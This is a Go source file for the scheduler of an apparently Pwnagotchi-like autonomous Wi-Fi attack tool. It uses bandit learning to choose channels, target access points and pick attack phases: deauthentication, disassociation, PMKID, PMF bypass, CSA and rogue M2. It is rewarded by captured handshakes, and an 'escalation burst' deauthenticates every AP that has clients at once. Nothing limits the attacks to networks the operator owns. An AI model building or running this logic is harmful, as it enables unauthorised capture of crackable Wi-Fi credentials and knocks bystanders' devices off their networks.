// Package scheduler runs the decision loop: sync the radio environment,
// walk channels in learned order, pick targets, dispatch attack phases
// and feed the outcomes back into the bandits.
package scheduler

import (
	"context"
	"sort"
	"strings"
	"time"

	"airbrain/internal/bandit"
	"airbrain/internal/env"
	"airbrain/internal/events"
	"airbrain/internal/logger"
	"airbrain/internal/metrics"
	"airbrain/internal/mood"
	"airbrain/pkg/models"
)

// CaptureStore is the slice of the capture store the scheduler drives.
type CaptureStore interface {
	Scan() error
	Rescan() error
	Quality(bssid string) models.HandshakeQuality
	TotalBytes() int64
}

// Config tunes the scheduler loop.
type Config struct {
	// Channels restricts recon to an allow-list; empty means every
	// visible channel.
	Channels []int

	MinRSSI          int
	FilterWeakSignal bool

	MaxTargetsPerChannel int           // per-channel candidate cap after sorting
	Cooldown             time.Duration // per-target re-attack cooldown
	HistoryTTL           time.Duration // per-target interaction throttle

	MinReconTime int // dwell clamp, seconds
	MaxReconTime int
	ReconTime    int // idle wait between empty cycles, seconds

	ModeWindow         time.Duration
	ModeHandshakeLimit int

	StatePath          string
	SaveIntervalEpochs int
}

func (c *Config) applyDefaults() {
	if c.MinRSSI == 0 {
		c.MinRSSI = -75
	}
	if c.MaxTargetsPerChannel <= 0 {
		c.MaxTargetsPerChannel = 3
	}
	if c.Cooldown <= 0 {
		c.Cooldown = 5 * time.Second
	}
	if c.HistoryTTL <= 0 {
		c.HistoryTTL = 60 * time.Second
	}
	if c.MinReconTime <= 0 {
		c.MinReconTime = 2
	}
	if c.MaxReconTime <= 0 {
		c.MaxReconTime = 10
	}
	if c.ReconTime <= 0 {
		c.ReconTime = 10
	}
	if c.ModeWindow <= 0 {
		c.ModeWindow = 2 * time.Minute
	}
	if c.ModeHandshakeLimit <= 0 {
		c.ModeHandshakeLimit = 3
	}
	if c.SaveIntervalEpochs <= 0 {
		c.SaveIntervalEpochs = 10
	}
}

// Scheduler owns the decision loop. Everything runs on the Run
// goroutine; the only shared state is inside the components it drives.
type Scheduler struct {
	cfg Config

	brain    *bandit.Brain
	channels *bandit.ChannelBandit
	attacks  *bandit.AttackBandit
	epoch    *mood.Epoch
	machine  *mood.Machine
	store    CaptureStore
	environ  env.Environment
	runner   env.AttackRunner
	bus      *events.Bus
	metrics  *metrics.Metrics

	history     map[string]time.Time
	pendingMAC  string
	pendingPrio float64

	modeHandshakes int
	bytesBefore    int64
	lastChannel    int
	dwellSecs      int

	now   func() time.Time
	sleep func(ctx context.Context, d time.Duration) bool
}

// New assembles a scheduler over its collaborators. bus and met may be
// nil when events or metrics are disabled.
func New(cfg Config, brain *bandit.Brain, channels *bandit.ChannelBandit, attacks *bandit.AttackBandit,
	epoch *mood.Epoch, machine *mood.Machine, store CaptureStore,
	environ env.Environment, runner env.AttackRunner, bus *events.Bus, met *metrics.Metrics) *Scheduler {

	cfg.applyDefaults()
	if met == nil {
		met = metrics.New()
	}
	return &Scheduler{
		cfg:       cfg,
		brain:     brain,
		channels:  channels,
		attacks:   attacks,
		epoch:     epoch,
		machine:   machine,
		store:     store,
		environ:   environ,
		runner:    runner,
		bus:       bus,
		metrics:   met,
		history:   make(map[string]time.Time),
		dwellSecs: 5,
		now:       time.Now,
		sleep:     sleepCtx,
	}
}

// snooze sleeps and books the time against the current epoch.
func (s *Scheduler) snooze(ctx context.Context, d time.Duration) bool {
	s.epoch.TrackSleep(d)
	return s.sleep(ctx, d)
}

func sleepCtx(ctx context.Context, d time.Duration) bool {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return false
	case <-t.C:
		return true
	}
}

// Run drives cycles until the context is cancelled, then snapshots the
// learned state.
func (s *Scheduler) Run(ctx context.Context) error {
	s.bytesBefore = s.store.TotalBytes()
	s.machine.SetReady()
	s.brain.SelectMode()
	logger.Infof("Scheduler started")

	for ctx.Err() == nil {
		s.cycle(ctx)
		if !s.sleep(ctx, 100*time.Millisecond) {
			break
		}
	}

	if s.cfg.StatePath != "" {
		if err := s.brain.Save(s.cfg.StatePath); err != nil {
			logger.Errorf("final state save failed: %v", err)
		}
	}
	logger.Infof("Scheduler stopped")
	return nil
}

// cycle runs one full decision epoch.
func (s *Scheduler) cycle(ctx context.Context) {
	s.rotateMode()

	aps, err := s.environ.AccessPoints(ctx)
	if err != nil {
		logger.Warnf("environment sync failed: %v", err)
		s.epoch.TrackMiss(1)
		s.metrics.Misses.Inc()
		s.finishEpoch(nil)
		return
	}
	s.metrics.VisibleAPs.Set(float64(len(aps)))

	if err := s.store.Scan(); err != nil {
		logger.Warnf("capture scan failed: %v", err)
	}

	if len(aps) == 0 {
		blind := s.epoch.TrackBlind()
		logger.Infof("blind cycle (%d in a row)", blind)
		tr := s.machine.ForceLonely(s.epoch, nil)
		s.publishMood(tr)
		s.snooze(ctx, time.Duration(s.cfg.ReconTime)*time.Second)
		s.finishEpoch(nil)
		return
	}
	s.epoch.ResetBlind()

	apCounts := make(map[int]int)
	for _, ap := range aps {
		if s.channelAllowed(ap.Channel) {
			apCounts[ap.Channel]++
		}
	}
	visible := make([]int, 0, len(apCounts))
	for ch := range apCounts {
		visible = append(visible, ch)
	}
	sort.Ints(visible)

	s.dwellSecs = s.adaptDwell(len(aps))

	for _, ch := range s.channels.Rank(visible, apCounts) {
		if ctx.Err() != nil {
			return
		}
		s.visitChannel(ctx, ch, aps, apCounts[ch])
	}

	if !s.epoch.Active() {
		logger.Debugf("no activity, waiting %ds", s.cfg.ReconTime)
		s.snooze(ctx, time.Duration(s.cfg.ReconTime)*time.Second)
	}

	s.settleOutcome()
	if s.finishEpoch(aps) {
		s.escalationBurst(ctx, aps)
	}
}

// rotateMode observes and re-selects the operating mode once its window
// expires or it has produced enough handshakes.
func (s *Scheduler) rotateMode() {
	mode, started := s.brain.CurrentMode()
	if s.now().Sub(started) < s.cfg.ModeWindow && s.modeHandshakes < s.cfg.ModeHandshakeLimit {
		return
	}
	s.brain.ObserveMode(mode, s.modeHandshakes > 0)
	next := s.brain.SelectMode()
	s.modeHandshakes = 0
	if next != mode {
		logger.Infof("mode switch: %s -> %s", mode, next)
	}
}

func (s *Scheduler) channelAllowed(ch int) bool {
	if ch <= 0 || ch > bandit.MaxChannel {
		return false
	}
	if len(s.cfg.Channels) == 0 {
		return true
	}
	for _, allowed := range s.cfg.Channels {
		if ch == allowed {
			return true
		}
	}
	return false
}

type candidate struct {
	handle bandit.Handle
	ap     models.AccessPoint
}

// visitChannel parks recon on one channel and engages the best targets
// there.
func (s *Scheduler) visitChannel(ctx context.Context, ch int, aps []models.AccessPoint, apCount int) {
	if err := s.environ.SetChannel(ctx, ch); err != nil {
		logger.Warnf("channel %d: set failed: %v", ch, err)
		s.epoch.TrackMiss(1)
		s.metrics.Misses.Inc()
		return
	}
	s.epoch.TrackHop()
	s.lastChannel = ch
	s.channels.UpdateStats(ch, apCount)
	s.metrics.Channel.Set(float64(ch))
	s.publish(models.Event{Type: models.EventChannelChange, Channel: ch})

	candidates := s.buildCandidates(ch, aps)
	if len(candidates) == 0 {
		return
	}

	mode, _ := s.brain.CurrentMode()
	if mode == bandit.ModeCooldown {
		s.snooze(ctx, 3*time.Second)
	}

	handles := make([]bandit.Handle, len(candidates))
	for i, c := range candidates {
		handles[i] = c.handle
	}
	// The bandit picks the lead target; the rest engage in signal order.
	first := s.brain.Decide(handles, bandit.ActionAssociate)

	attacked := false
	if first != bandit.NoHandle {
		for _, c := range candidates {
			if c.handle == first {
				attacked = s.engage(ctx, c, mode)
				break
			}
		}
	}
	for _, c := range candidates {
		if ctx.Err() != nil {
			return
		}
		if c.handle == first {
			continue
		}
		if s.engage(ctx, c, mode) {
			attacked = true
		}
	}

	if attacked {
		s.snooze(ctx, time.Duration(s.dwellSecs)*time.Second)
	}
}

// buildCandidates filters this channel's APs down to attackable
// targets, refreshing each one's entity on the way.
func (s *Scheduler) buildCandidates(ch int, aps []models.AccessPoint) []candidate {
	var out []candidate
	for _, ap := range aps {
		if ap.Channel != ch || len(out) >= 64 {
			continue
		}
		mac := strings.ToLower(ap.MAC)

		if s.cfg.FilterWeakSignal && ap.RSSI < s.cfg.MinRSSI {
			logger.Debugf("skip weak AP %s (%ddBm)", ap.SSID, ap.RSSI)
			continue
		}

		quality := s.store.Quality(mac)
		if quality == models.QualityFull {
			// Already have everything this target can give.
			continue
		}
		hasPartial := quality == models.QualityPartial || quality == models.QualityPMKID

		if s.attacks.IsBlacklisted(mac) {
			continue
		}
		if s.throttled(mac) {
			continue
		}

		h := s.brain.Touch(mac)
		if h == bandit.NoHandle {
			continue // arena full
		}
		if s.brain.UpdateMetadata(h, ap.SSID, ap.Vendor, ap.Channel, ap.Beacon, ap.Encryption) {
			logger.Warnf("identity drift on %s (%s)", ap.SSID, mac)
		}
		s.brain.UpdateSignal(h, float64(ap.RSSI))
		s.brain.SetClientBoost(h, clientBoost(len(ap.Clients), hasPartial))

		out = append(out, candidate{handle: h, ap: ap})
	}

	// Strongest signal first.
	sort.SliceStable(out, func(i, j int) bool {
		return out[i].ap.RSSI > out[j].ap.RSSI
	})
	if len(out) > s.cfg.MaxTargetsPerChannel {
		out = out[:s.cfg.MaxTargetsPerChannel]
	}
	return out
}

// clientBoost weighs a target by how likely an engagement is to produce
// a handshake: clients help, existing partial material discounts.
func clientBoost(clients int, hasPartial bool) float64 {
	if clients > 0 {
		boost := 1.0 + 0.2*float64(clients)
		if hasPartial {
			boost *= 0.4
		}
		return boost
	}
	if hasPartial {
		return 0.15
	}
	return 0.5
}

// engage dispatches one attack phase against a target. Returns whether
// anything was actually sent.
func (s *Scheduler) engage(ctx context.Context, c candidate, mode bandit.Mode) bool {
	ap := c.ap
	mac := strings.ToLower(ap.MAC)

	priority := 1.0 / (1.0 + abs(float64(ap.RSSI)+50.0)/30.0)
	if n := len(ap.Clients); n > 0 {
		priority *= 1.0 + 0.3*float64(n)
	}

	if mode == bandit.ModePassiveDiscovery {
		// Observe-only mode still pays a small exploration dividend.
		s.brain.ObserveOutcome(c.handle, false, priority*0.05)
		return false
	}

	pmf := strings.Contains(ap.Encryption, "WPA3") || strings.Contains(ap.Encryption, "SAE")
	phase := s.attacks.Select(mac, pmf, nil)

	if phase != models.PhasePMKID && phase != models.PhasePassive {
		if e, ok := s.brain.View(c.handle); ok && !e.LastAttacked.IsZero() &&
			s.now().Sub(e.LastAttacked) < s.cfg.Cooldown {
			s.brain.ObserveOutcome(c.handle, false, priority*0.01)
			logger.Debugf("cooldown skip %s", ap.SSID)
			return false
		}
	}

	s.pendingMAC = mac
	s.pendingPrio = priority
	s.brain.MarkAttacked(c.handle)
	s.history[mac] = s.now()

	rep, err := s.runner.Perform(ctx, phase, ap, ap.Clients)
	if err != nil {
		logger.Warnf("attack %s on %s failed: %v", phase, ap.SSID, err)
		s.epoch.TrackMiss(1)
		s.metrics.Misses.Inc()
		return false
	}

	if rep.Deauths > 0 {
		s.epoch.TrackDeauth(rep.Deauths)
		s.metrics.Deauths.Add(float64(rep.Deauths))
		if s.attacks.TrackDeauth(mac) {
			logger.Infof("blacklisted %s (%s): deauths keep missing", ap.SSID, mac)
		}
	}
	if rep.Associations > 0 {
		s.epoch.TrackAssociation(rep.Associations)
		s.metrics.Associations.Add(float64(rep.Associations))
	}

	s.publish(models.Event{
		Type:    models.EventAttackPhase,
		Target:  mac,
		SSID:    ap.SSID,
		Phase:   phase.String(),
		Channel: ap.Channel,
	})

	// Small per-phase negative keeps exploration alive until the
	// capture delta settles the real outcome.
	s.brain.ObserveOutcome(c.handle, false, priority*phasePenalty(phase))
	return rep.Deauths > 0 || rep.Associations > 0 || rep.Probes > 0
}

func phasePenalty(phase models.AttackPhase) float64 {
	switch phase {
	case models.PhasePMKID, models.PhaseCSA:
		return 0.1
	case models.PhaseDeauth, models.PhasePMFBypass, models.PhaseDisassoc:
		return 0.15
	case models.PhaseRogueM2:
		return 0.2
	case models.PhaseProbe:
		return 0.05
	default:
		return 0.02
	}
}

// settleOutcome checks the capture directory's byte delta and settles
// the pending attack's reward across every bandit that contributed.
func (s *Scheduler) settleOutcome() {
	total := s.store.TotalBytes()
	defer func() { s.bytesBefore = total }()

	if s.pendingMAC == "" {
		return
	}
	mac := s.pendingMAC
	s.pendingMAC = ""

	if total <= s.bytesBefore {
		s.attacks.Observe(mac, s.attacks.LastPhase(mac), false)
		if s.lastChannel > 0 {
			s.channels.Observe(s.lastChannel, false)
		}
		return
	}

	// New capture material landed: credit target, channel, mode, phase.
	h := s.brain.Touch(mac)
	s.brain.ObserveOutcome(h, true, s.pendingPrio)
	if e, ok := s.brain.View(h); ok && e.Channel > 0 {
		s.channels.Observe(e.Channel, true)
	}
	mode, _ := s.brain.CurrentMode()
	s.brain.ObserveMode(mode, true)
	s.modeHandshakes++
	s.attacks.TrackHandshake(mac)
	s.attacks.Observe(mac, s.attacks.LastPhase(mac), true)

	s.epoch.TrackHandshake(1)
	s.metrics.Handshakes.Inc()
	logger.Infof("HANDSHAKE! %s rewarded (mode=%s)", mac, mode)

	if err := s.store.Rescan(); err != nil {
		logger.Warnf("capture rescan failed: %v", err)
	}
	s.publish(models.Event{
		Type:    models.EventHandshake,
		Target:  mac,
		Quality: s.store.Quality(mac).String(),
	})
}

// finishEpoch advances streaks, updates the mood, snapshots and cleans
// up. aps may be nil on blind or failed cycles; the mood was then
// already forced. Returns whether an escalation burst is due.
func (s *Scheduler) finishEpoch(aps []models.AccessPoint) bool {
	summary := s.epoch.Advance(s.machine.BoredAfter(), s.machine.SadAfter())
	summary.VisibleAPs = len(aps)

	var escalate bool
	if aps != nil {
		tr := s.machine.Update(s.epoch, s.moodTargets(aps))
		s.publishMood(tr)
		escalate = tr.Escalate
	}
	summary.Mood = s.machine.Mood().String()
	s.metrics.Mood.Set(float64(s.machine.Mood()))
	s.publish(models.Event{Type: models.EventEpochSummary, Epoch: &summary})

	s.epoch.Reset()
	s.metrics.Epochs.Inc()
	escalate = escalate || s.machine.ShouldEscalate(s.epoch.Num)

	if n := s.brain.GarbageCollect(); n > 0 {
		s.metrics.Evictions.Add(float64(n))
		logger.Debugf("garbage collected %d entities", n)
	}
	s.pruneHistory()

	if s.cfg.StatePath != "" && s.epoch.Num%s.cfg.SaveIntervalEpochs == 0 {
		if err := s.brain.Save(s.cfg.StatePath); err != nil {
			logger.Errorf("state save failed: %v", err)
		}
	}
	return escalate
}

// escalationBurst is the anger response: hammer every clientful target
// with deauths at once instead of the usual one-at-a-time engagement.
// The AP snapshot may be a full cycle old by now, so a fresh station
// query gates the burst.
func (s *Scheduler) escalationBurst(ctx context.Context, aps []models.AccessPoint) {
	stations, err := s.environ.Stations(ctx)
	if err != nil {
		logger.Warnf("escalation: station query failed: %v", err)
		s.epoch.TrackMiss(1)
		s.metrics.Misses.Inc()
		return
	}
	if len(stations) == 0 {
		logger.Debugf("escalation skipped: no client stations visible")
		return
	}

	burst := 0
	for _, ap := range aps {
		if ctx.Err() != nil {
			return
		}
		if len(ap.Clients) == 0 {
			continue
		}
		mac := strings.ToLower(ap.MAC)
		if s.attacks.IsBlacklisted(mac) {
			continue
		}
		rep, err := s.runner.Perform(ctx, models.PhaseDeauth, ap, ap.Clients)
		if err != nil {
			logger.Warnf("escalation deauth on %s failed: %v", ap.SSID, err)
			continue
		}
		if rep.Deauths > 0 {
			s.epoch.TrackDeauth(rep.Deauths)
			s.metrics.Deauths.Add(float64(rep.Deauths))
			s.attacks.TrackDeauth(mac)
			burst += rep.Deauths
		}
	}
	if burst > 0 {
		logger.Infof("escalation burst: %d deauths dispatched", burst)
	}
}

func (s *Scheduler) moodTargets(aps []models.AccessPoint) []mood.Target {
	targets := make([]mood.Target, 0, len(aps))
	for _, ap := range aps {
		targets = append(targets, mood.Target{
			MAC:        strings.ToLower(ap.MAC),
			RSSI:       ap.RSSI,
			Clients:    len(ap.Clients),
			Encryption: ap.Encryption,
			Quality:    s.store.Quality(strings.ToLower(ap.MAC)),
		})
	}
	return targets
}

// adaptDwell derives the per-channel dwell from AP density, capture
// momentum and inactivity streaks.
func (s *Scheduler) adaptDwell(apCount int) int {
	var base int
	switch {
	case apCount > 20:
		base = 2
	case apCount > 10:
		base = 3
	case apCount > 5:
		base = 5
	case apCount > 0:
		base = 8
	default:
		base = 10
	}

	if s.epoch.Handshakes > 0 {
		base = base * 2 / 3
	}
	if s.epoch.InactiveFor > 10 {
		base += 3
	} else if s.epoch.InactiveFor > 5 {
		base += 1
	}

	if base < s.cfg.MinReconTime {
		base = s.cfg.MinReconTime
	}
	if base > s.cfg.MaxReconTime {
		base = s.cfg.MaxReconTime
	}
	if base != s.dwellSecs {
		logger.Debugf("adaptive dwell: %ds -> %ds (aps=%d inactive=%d)",
			s.dwellSecs, base, apCount, s.epoch.InactiveFor)
	}
	return base
}

func (s *Scheduler) throttled(mac string) bool {
	last, ok := s.history[mac]
	return ok && s.now().Sub(last) < s.cfg.HistoryTTL
}

func (s *Scheduler) pruneHistory() {
	cutoff := s.now().Add(-s.cfg.HistoryTTL)
	for mac, last := range s.history {
		if last.Before(cutoff) {
			delete(s.history, mac)
		}
	}
}

func (s *Scheduler) publish(ev models.Event) {
	if s.bus != nil {
		s.bus.Publish(ev)
	}
}

func (s *Scheduler) publishMood(tr mood.Transition) {
	if !tr.Changed {
		return
	}
	s.publish(models.Event{
		Type:     models.EventMoodChange,
		Mood:     tr.Mood.String(),
		PrevMood: tr.Prev.String(),
		Reason:   tr.Reason.String(),
	})
}

func abs(x float64) float64 {
	if x < 0 {
		return -x
	}
	return x
}
